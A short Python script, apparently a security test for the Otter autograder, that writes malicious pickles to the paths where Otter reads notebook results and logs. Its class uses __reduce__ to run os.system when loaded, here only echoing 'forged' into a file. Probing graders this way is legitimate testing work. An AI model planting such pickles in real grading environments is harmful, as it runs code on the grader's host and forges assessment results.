"""Writes pickles where stock Otter reads the results of the notebook's process; one of them runs code on loading."""

# on: q8
# kind: forgery
# ruff: noqa: SIM105

import os
import pickle
from pathlib import Path


class Runs:
    def __reduce__(self):
        return os.system, ("echo forged > forged-by-pickle",)


for path in (
    "results.pkl",
    "../results/results.pkl",
    ".OTTER_LOG",
    "../submission/.OTTER_LOG",
    "submission/.OTTER_LOG",
):
    try:
        Path(path).write_bytes(pickle.dumps(Runs()))
    except OSError:
        pass
